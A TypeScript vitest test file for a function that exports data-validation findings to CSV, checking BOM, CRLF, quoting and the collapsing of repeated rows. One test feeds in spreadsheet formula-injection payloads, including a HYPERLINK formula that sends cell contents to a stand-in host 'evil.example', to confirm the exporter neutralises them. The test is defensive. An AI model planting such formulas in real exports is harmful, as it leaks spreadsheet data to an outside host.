import { describe, it, expect } from 'vitest';
import { parse } from 'csv-parse/sync';
import type { Finding } from '../types';
import { errorReportCsv } from './index';

const HEADER = ['severity', 'file', 'sheet', 'row', 'column', 'header', 'path', 'code', 'message', 'rows'];

function parseBack(csv: string): string[][] {
  return parse(csv, { bom: true, relax_column_count: false }) as string[][];
}

describe('errorReportCsv', () => {
  it('starts with a UTF-8 BOM and the header, and ends lines with CRLF', () => {
    const csv = errorReportCsv([]);
    expect(csv).toBe('\uFEFFseverity,file,sheet,row,column,header,path,code,message,rows\r\n');
  });

  it('writes one line per finding that parses back to the same fields', () => {
    const findings: Finding[] = [
      {
        severity: 'error',
        code: 'value.dateOnly',
        path: 'urn:ietf:params:scim:schemas:extension:acme:1.0:User.hireDate',
        message: '`hireDate` is the date `2021-05-01` without a time, but Entra needs `2021-05-01T00:00:00Z`; convert it with $entraDate() in the mapping.',
        file: 'Employés, été.xlsx',
        sheet: 'Feuille "1"',
        row: 12,
        cells: [{ header: 'Date d’embauche', letter: 'D' }],
      },
      {
        severity: 'warning',
        code: 'value.null',
        path: 'displayName',
        message: 'line one\nline two',
        file: 'a.csv',
        row: 3,
        cells: [{ header: 'Prénom', letter: 'B' }, { header: 'Nom', letter: 'C' }],
      },
      { severity: 'error', code: 'header.blank', message: 'No location at all.' },
      { severity: 'warning', code: 'country.notIso', message: 'Country UK (12 people).', file: 'a.csv', row: 3, repeats: { count: 12, rows: '3–12, 20, 40' } },
    ];
    const rows = parseBack(errorReportCsv(findings));
    expect(rows[0]).toEqual(HEADER);
    expect(rows[1]).toEqual([
      'error', 'Employés, été.xlsx', 'Feuille "1"', '12', 'D', 'Date d’embauche',
      'urn:ietf:params:scim:schemas:extension:acme:1.0:User.hireDate', 'value.dateOnly', findings[0]!.message, '',
    ]);
    expect(rows[2]).toEqual(['warning', 'a.csv', '', '3', 'B; C', 'Prénom; Nom', 'displayName', 'value.null', 'line one\nline two', '']);
    expect(rows[3]).toEqual(['error', '', '', '', '', '', '', 'header.blank', 'No location at all.', '']);
    // A warning repeated on many rows: one line, every row in the last column.
    expect(rows[4]).toEqual(['warning', 'a.csv', '', '3', '', '', '', 'country.notIso', 'Country UK (12 people).', '3–12, 20, 40']);
    expect(rows).toHaveLength(5);
  });

  it('neutralises cells that a spreadsheet would run as a formula', () => {
    const findings: Finding[] = [
      {
        severity: 'error',
        code: 'email.invalid',
        message: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        file: '+cmd.csv',
        sheet: '-2+3',
        row: 2,
        path: '@SUM(A1)',
        cells: [{ header: '\tTab', letter: 'A' }],
      },
      { severity: 'warning', code: '\rcode', message: 'ok = fine, not at the start' },
    ];
    const csv = errorReportCsv(findings);
    const rows = parseBack(csv);
    expect(rows[1]).toEqual([
      'error', "'+cmd.csv", "'-2+3", '2', 'A', "'\tTab", "'@SUM(A1)", 'email.invalid', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, '',
    ]);
    expect(rows[2]).toEqual(['warning', '', '', '', '', '', '', "'\rcode", 'ok = fine, not at the start', '']);
    // No raw line of the file starts a field with a formula character.
    for (const row of rows) for (const field of row) expect(field).not.toMatch(/^[=+\-@\t\r]/);
  });
});
